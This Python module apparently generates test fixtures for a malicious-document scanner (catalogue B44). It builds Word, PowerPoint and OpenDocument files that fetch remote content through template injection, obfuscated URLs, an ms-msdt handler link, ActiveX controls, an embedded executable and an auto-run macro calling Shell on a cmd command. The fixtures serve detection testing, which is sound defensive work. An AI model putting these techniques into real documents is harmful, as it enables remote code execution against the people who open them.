"""What documents fetch from elsewhere, and objects that show or run it (catalogue B44)."""

from __future__ import annotations

import struct

from office_maker import HOST, PROGRAM, URL, Cases, flat, native, old_word, package, relation, word
from ole_maker import compound


def references() -> Cases:
    """The cases."""
    cases = Cases()
    targets = {
        "template": ("attachedTemplate", URL), "odd case": ("attachedTemplate", f"hTTp://{HOST}/gate"),
        "share": ("attachedTemplate", f"\\\\{HOST}\\x\\t.dotm"),
        "reference": ("attachedTemplate", f"&#x68;ttp://{HOST}/gate"),
        "file": ("frame", f"file://{HOST}/x"), "mhtml": ("oleObject", f"mhtml:{URL}!x-usc:{URL}"),
        "object": ("oleObject", URL), "part of a document": ("subDocument", URL),
        "handler": ("attachedTemplate", f"ms-word:ofe|u|{URL}"),
    }  # fmt: skip
    for title, (kind, target) in targets.items():
        cases.put(f"B44 {title}", "a.docx", word(rels=relation(kind, target)), "office-remote-template")
    cases.put(
        "B44 relations in UTF-16",
        "a.docx",
        word(rels=relation("attachedTemplate", URL).encode("utf-16")),
        "office-remote-template",
    )
    cases.put("B44 picture", "a.docx", word(rels=relation("image", URL)), "office-remote-image")
    cases.put("B44 other workbook", "a.docx", word(rels=relation("customXml", URL)), "office-external-link")
    cases.put(
        "B44 link to a handler",
        "a.docx",
        word(rels=relation("hyperlink", f"ms-msdt:/id x {URL}")),
        "office-external-link",
    )
    cases.put(
        "B44 picture field",
        "a.docx",
        word(document=f'<w:fldSimple w:instr="INCLUDEPICTURE &quot;{URL}&quot; \\d"/>'),
        "office-remote-image",
    )
    cases.put(
        "B44 text field",
        "a.docx",
        word(document=f'<w:fldSimple w:instr="INCLUDETEXT &quot;{URL}&quot;"/>'),
        "office-remote-template",
    )
    cases.put("B44 template of old Word", "a.doc", compound(old_word("text", URL)), "office-remote-template")
    moniker = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + _wide_url()
    cases.put(
        "B44 moniker of a URL",
        "a.doc",
        compound({"ObjectPool/_1/\x01Ole": bytes(20) + moniker}),
        "office-remote-template",
    )
    cases.put(
        "B44 page shown",
        "a.doc",
        compound(
            {"ObjectPool/_1/CONTENTS": f"url {URL}".encode()}, {"ObjectPool/_1": "EAB22AC3-30C1-11CF-A7EB-0000C05BAE0B"}
        ),
        "office-risky-object",
    )
    cases.put(
        "B44 class by name",
        "a.docx",
        word(document=f'<o:OLEObject ProgID="htmlfile" x="{URL}"/>'),
        "office-risky-object",
    )
    control = f'<ax:ocxPr ax:name="URL" ax:value="{URL}"/></ax:ocx>'
    control = f'<ax:ocx ax:classid="{{8856F961-340A-11D0-A96B-00C04FD705A2}}" ax:persistence="p">{control}'
    cases.put(
        "B44 control",
        "a.docx",
        word(**{"word/activeX/activeX1.xml": control}),
        "office-risky-object office-activex",
    )
    cases.put(
        "B44 ribbon",
        "a.docm",
        word(**{"customUI/customUI.xml": f'<customUI onLoad="Start"><button tag="{URL}" onAction="x"/></customUI>'}),
        "office-custom-ui",
    )
    cases.put(
        "B44 slide that starts a program",
        "a.pptx",
        package({"ppt/slides/s.xml": f'<a:hlinkClick action="ppaction://program"/><a:t>{URL}</a:t>'}),
        "office-external-link",
    )
    cases.put(
        "B44 package",
        "a.docx",
        word(**{"word/embeddings/oleObject1.bin": compound({"\x01Ole10Native": native("update.exe", PROGRAM)})}),
        "office-package executable",
        host=False,
    )
    cases.put(
        "B44 section of OpenDocument",
        "a.fodt",
        flat(f'<text:section-source xlink:href="{URL}"/>'),
        "office-remote-template",
    )
    listener = 'script:event-name="dom:load" xlink:href="vnd.sun.star.script:S.M.Main"'
    module = f'<script:module script:name="M">Shell("cmd {URL}")</script:module>'
    script = flat(f"<script:event-listener {listener}/>{module}")
    cases.put("B44 event of OpenDocument", "a.fodt", script, "office-auto-macro office-macro office-macro-suspicious")
    return cases


def _wide_url() -> bytes:
    raw = f"{URL}\0".encode("utf-16-le")
    return struct.pack("<L", len(raw)) + raw
